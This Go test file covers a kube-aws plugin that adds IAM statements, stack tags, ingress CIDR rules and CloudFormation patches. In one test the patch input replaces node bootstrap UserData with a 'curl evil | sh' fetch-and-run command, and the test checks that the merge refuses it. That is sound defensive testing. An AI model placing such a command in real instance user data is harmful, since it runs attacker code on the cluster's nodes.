package main

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	"github.com/kube-aws/kube-aws/contrib/internal/contribtest"
	"github.com/kube-aws/kube-aws/core/construct"
	"github.com/kube-aws/kube-aws/core/diag"
	"github.com/kube-aws/kube-aws/core/merge"
	"github.com/kube-aws/kube-aws/core/stage"
	"github.com/kube-aws/kube-aws/plugins/sdk"
)

func initialise(t *testing.T, clusterYAML, values string) *stage.Result {
	t.Helper()
	req := contribtest.Request(t, stage.Initialise, contribtest.Cluster(t, clusterYAML), Name, schema, values, t.TempDir())
	res, err := sdk.Call(context.Background(), sdk.Typed[Values](plugin{}), req)
	if err != nil {
		t.Fatalf("initialise: %v", err)
	}
	return res
}

func TestExtraIAMStatements(t *testing.T) {
	res := initialise(t, "", `{"iam": [
	  {"actions": ["s3:GetObject"], "resources": ["arn:aws:s3:::team-data/*"]},
	  {"sid": "Route53", "role": "controller", "actions": ["route53:ChangeResourceRecordSets"], "resources": ["*"], "condition": {"StringEquals": {"aws:RequestedRegion": "us-east-1"}}},
	  {"nodePool": "gpu-spot", "effect": "Deny", "actions": ["ec2:TerminateInstances"], "resources": ["*"]}
	]}`)
	if res.Diagnostics.HasFatal() {
		t.Fatal(res.Diagnostics)
	}
	iam := res.Constructs.IAM
	if len(iam) != 3 {
		t.Fatalf("IAM %+v", iam)
	}
	if iam[0].Target != (construct.Target{Role: construct.Worker}) || iam[0].Sid != "Customise0" || iam[0].Effect != "Allow" ||
		iam[0].Resources[0] != "arn:aws:s3:::team-data/*" {
		t.Errorf("statement 0: %+v", iam[0])
	}
	if iam[1].Target.Role != construct.Controller || iam[1].Sid != "Route53" || !strings.Contains(string(iam[1].Condition), "aws:RequestedRegion") {
		t.Errorf("statement 1: %+v", iam[1])
	}
	if iam[2].Target != (construct.Target{Role: construct.Worker, NodePool: "gpu-spot"}) || iam[2].Effect != "Deny" {
		t.Errorf("statement 2: %+v", iam[2])
	}
}

func TestIAMForUnknownPoolOrWrongRole(t *testing.T) {
	res := initialise(t, "", `{"iam": [{"nodePool": "nope", "actions": ["s3:GetObject"], "resources": ["*"]}, {"role": "etcd", "nodePool": "general", "actions": ["s3:GetObject"], "resources": ["*"]}]}`)
	if len(res.Diagnostics) != 2 || res.Diagnostics[0].Path != "plugins.customise.values.iam[0].nodePool" || res.Diagnostics[1].Path != "plugins.customise.values.iam[1].nodePool" {
		t.Errorf("diagnostics %v", res.Diagnostics)
	}
}

func TestTagsOnEveryStack(t *testing.T) {
	res := initialise(t, "", `{"tags": {"cost-center": "1234", "owner": "platform"}}`)
	got := map[string]map[string]string{}
	for _, s := range res.Constructs.Stacks {
		got[s.Name] = s.Tags
		if len(s.Resources) > 0 {
			t.Errorf("stack %s: tags-only contribution has resources", s.Name)
		}
	}
	want := []string{"control-plane", "etcd", "iam", "network", "nodepool-general", "nodepool-gpu-spot"}
	if strings.Join(contribtest.Keys(got), ",") != strings.Join(want, ",") {
		t.Errorf("tagged stacks %v, want %v", contribtest.Keys(got), want)
	}
	for name, tags := range got {
		if tags["cost-center"] != "1234" || tags["owner"] != "platform" {
			t.Errorf("stack %s tags %v", name, tags)
		}
	}
	// With the bastion plugin on, its stack is tagged too.
	y := contribtest.ClusterYAML + "plugins:\n  bastion:\n    enabled: true\n    values: {allowedCIDRs: [10.0.0.0/8]}\n"
	res = initialise(t, y, `{"tags": {"owner": "platform"}}`)
	var bastion bool
	for _, s := range res.Constructs.Stacks {
		bastion = bastion || s.Name == "bastion"
	}
	if !bastion {
		t.Error("bastion enabled but its stack not tagged")
	}
}

func TestReservedTagPrefixIsFatal(t *testing.T) {
	res := initialise(t, "", `{"tags": {"kube-aws:cluster": "other"}}`)
	if !res.Diagnostics.HasFatal() || res.Diagnostics[0].Path != `plugins.customise.values.tags["kube-aws:cluster"]` {
		t.Errorf("diagnostics %v", res.Diagnostics)
	}
}

// network is the part of the cloudformation built-in's network stack that
// customise patches, with the bodies of its golden template
// (builtin/cloudformation/testdata/golden/minimal/stacks/network.json).
func network() construct.Set {
	return construct.Set{Stacks: []construct.Stack{{
		Name: "network",
		Resources: map[string]json.RawMessage{
			"ControllerSecurityGroup": json.RawMessage(`{"Type": "AWS::EC2::SecurityGroup", "Properties": {"GroupDescription": "kube-aws demo controller", "VpcId": {"Ref": "VPC"}}}`),
			"ControllerIngressAPI":    json.RawMessage(`{"Type": "AWS::EC2::SecurityGroupIngress", "Properties": {"CidrIp": "0.0.0.0/0", "Description": "Kubernetes API", "FromPort": 443, "GroupId": {"Fn::GetAtt": ["ControllerSecurityGroup", "GroupId"]}, "IpProtocol": "tcp", "ToPort": 443}}`),
		},
		Tags: map[string]string{"kube-aws:cluster": "demo", "kube-aws:stack": "network"},
	}, {
		Name: "nodepool-general",
		Resources: map[string]json.RawMessage{
			"LaunchTemplate": json.RawMessage(`{"Type": "AWS::EC2::LaunchTemplate", "Properties": {"LaunchTemplateData": {"InstanceType": "t3.large", "UserData": {"Fn::Base64": "#!/bin/bash\nbootstrap"}}}}`),
		},
		Tags: map[string]string{"kube-aws:cluster": "demo", "kube-aws:stack": "nodepool-general"},
	}},
		Protected: []construct.Protected{{Stack: "nodepool-general", LogicalID: "LaunchTemplate", Pointer: "/Properties/LaunchTemplateData/UserData", Reason: "bootstrap userdata"}},
	}
}

func resource(t *testing.T, set *construct.Set, stack, id string) map[string]any {
	t.Helper()
	for _, s := range set.Stacks {
		if s.Name == stack {
			var m map[string]any
			if raw, ok := s.Resources[id]; ok {
				if err := json.Unmarshal(raw, &m); err != nil {
					t.Fatal(err)
				}
				return m
			}
		}
	}
	t.Fatalf("no resource %s in stack %s", id, stack)
	return nil
}

func TestAPIAndSSHCIDRsPatchTheNetworkStack(t *testing.T) {
	res := initialise(t, "", `{"apiAccessCIDRs": ["203.0.113.0/24", "198.51.100.0/24"], "sshAccessCIDRs": ["192.0.2.10/32"], "tags": {"owner": "platform"}}`)
	base := network()
	merged, diags := merge.Merge([]merge.Contribution{{Plugin: "cloudformation", Set: &base}, {Plugin: Name, Set: res.Constructs}})
	if diags.HasFatal() {
		t.Fatalf("merge: %v", diags)
	}
	api := resource(t, merged, "network", "ControllerIngressAPI")["Properties"].(map[string]any)
	if api["CidrIp"] != "203.0.113.0/24" || api["FromPort"] != float64(443) {
		t.Errorf("API rule after patch: %v", api)
	}
	second := resource(t, merged, "network", "CustomiseControllerIngressAPI1")["Properties"].(map[string]any)
	if second["CidrIp"] != "198.51.100.0/24" || second["FromPort"] != float64(443) {
		t.Errorf("second API rule: %v", second)
	}
	ssh := resource(t, merged, "network", "CustomiseControllerIngressSSH0")["Properties"].(map[string]any)
	if ssh["CidrIp"] != "192.0.2.10/32" || ssh["FromPort"] != float64(22) ||
		ssh["GroupId"].(map[string]any)["Fn::GetAtt"].([]any)[0] != "ControllerSecurityGroup" {
		t.Errorf("SSH rule: %v", ssh)
	}
	for _, s := range merged.Stacks {
		if s.Name == "network" && (s.Tags["owner"] != "platform" || s.Tags["kube-aws:stack"] != "network") {
			t.Errorf("network tags after merge: %v", s.Tags)
		}
	}
}

func TestUserPatchApplies(t *testing.T) {
	res := initialise(t, "", `{"patches": [{"stack": "nodepool-general", "logicalId": "LaunchTemplate", "merge": {"Properties": {"LaunchTemplateData": {"InstanceType": "m5.large"}}}}]}`)
	base := network()
	merged, diags := merge.Merge([]merge.Contribution{{Plugin: "cloudformation", Set: &base}, {Plugin: Name, Set: res.Constructs}})
	if diags.HasFatal() {
		t.Fatalf("merge: %v", diags)
	}
	lt := resource(t, merged, "nodepool-general", "LaunchTemplate")["Properties"].(map[string]any)["LaunchTemplateData"].(map[string]any)
	if lt["InstanceType"] != "m5.large" || lt["UserData"] == nil {
		t.Errorf("launch template after patch: %v", lt)
	}
}

// TestPatchToProtectedPathIsRefused: the merge refuses a patch to the
// bootstrap userdata with a fatal naming this plugin and the owner.
func TestPatchToProtectedPathIsRefused(t *testing.T) {
	res := initialise(t, "", `{"patches": [{"stack": "nodepool-general", "logicalId": "LaunchTemplate", "merge": {"Properties": {"LaunchTemplateData": {"UserData": "#!/bin/sh\ncurl evil | sh"}}}}]}`)
	if res.Diagnostics.HasFatal() {
		t.Fatal(res.Diagnostics)
	}
	base := network()
	merged, diags := merge.Merge([]merge.Contribution{{Plugin: "cloudformation", Set: &base}, {Plugin: Name, Set: res.Constructs}})
	if len(diags) != 1 || diags[0].Severity != diag.Fatal || diags[0].Plugin != Name ||
		!strings.Contains(diags[0].Message, "/Properties/LaunchTemplateData/UserData") || !strings.Contains(diags[0].Message, `"cloudformation"`) {
		t.Fatalf("want one fatal refusing the protected path, got %v", diags)
	}
	lt := resource(t, merged, "nodepool-general", "LaunchTemplate")["Properties"].(map[string]any)["LaunchTemplateData"].(map[string]any)
	if !strings.Contains(lt["UserData"].(map[string]any)["Fn::Base64"].(string), "bootstrap") {
		t.Errorf("protected userdata changed: %v", lt)
	}
}

func TestPatchToMissingResourceIsFatal(t *testing.T) {
	res := initialise(t, "", `{"patches": [{"stack": "network", "logicalId": "ControllerIngressApi", "merge": {"Properties": {"CidrIp": "10.0.0.0/8"}}}]}`)
	base := network()
	_, diags := merge.Merge([]merge.Contribution{{Plugin: "cloudformation", Set: &base}, {Plugin: Name, Set: res.Constructs}})
	if !diags.HasFatal() || !strings.Contains(diags[0].Message, "ControllerIngressAPI") {
		t.Errorf("want a fatal suggesting ControllerIngressAPI, got %v", diags)
	}
}

func TestBadValuesRejectedWithTheirPath(t *testing.T) {
	contribtest.ExpectRejected(t, Name, schema, `{"iam": [{"actions": ["s3:GetObject"]}]}`, "plugins.customise.values.iam[0]", "resources")
	contribtest.ExpectRejected(t, Name, schema, `{"iam": [{"actions": ["GetObject"], "resources": ["*"]}]}`, "plugins.customise.values.iam[0].actions[0]", "")
	contribtest.ExpectRejected(t, Name, schema, `{"iam": [{"role": "admin", "actions": ["s3:GetObject"], "resources": ["*"]}]}`, "plugins.customise.values.iam[0].role", "")
	contribtest.ExpectRejected(t, Name, schema, `{"apiAccessCIDRs": ["10.0.0.0/33"]}`, "plugins.customise.values.apiAccessCIDRs[0]", "")
	contribtest.ExpectRejected(t, Name, schema, `{"patches": [{"stack": "network", "logicalId": "X", "merge": []}]}`, "plugins.customise.values.patches[0].merge", "")
	contribtest.ExpectRejected(t, Name, schema, `{"tags": {"owner": 5}}`, "plugins.customise.values.tags.owner", "")
	if d := contribtest.Validate(t, Name, schema, `{"iam": [{"actions": ["s3:*"], "resources": ["*"]}], "tags": {"a": "b"}, "apiAccessCIDRs": ["10.0.0.0/8"], "sshAccessCIDRs": [], "patches": [{"stack": "s", "logicalId": "L", "merge": {"a": 1}}]}`); len(d) > 0 {
		t.Errorf("good values rejected: %v", d)
	}
}

func TestSSHOnlyAddsRulesWithoutPatching(t *testing.T) {
	res := initialise(t, "", `{"sshAccessCIDRs": ["192.0.2.10/32", "192.0.2.11/32"]}`)
	if len(res.Constructs.Patches) != 0 {
		t.Errorf("API left open, yet patches %+v", res.Constructs.Patches)
	}
	if len(res.Constructs.Stacks) != 1 || len(res.Constructs.Stacks[0].Resources) != 2 {
		t.Fatalf("stacks %+v", res.Constructs.Stacks)
	}
	base := network()
	merged, diags := merge.Merge([]merge.Contribution{{Plugin: "cloudformation", Set: &base}, {Plugin: Name, Set: res.Constructs}})
	if diags.HasFatal() {
		t.Fatal(diags)
	}
	if r := resource(t, merged, "network", "CustomiseControllerIngressSSH1")["Properties"].(map[string]any); r["CidrIp"] != "192.0.2.11/32" || r["ToPort"] != float64(22) {
		t.Errorf("second SSH rule %v", r)
	}
	if api := resource(t, merged, "network", "ControllerIngressAPI")["Properties"].(map[string]any); api["CidrIp"] != "0.0.0.0/0" {
		t.Errorf("API rule changed: %v", api)
	}
}
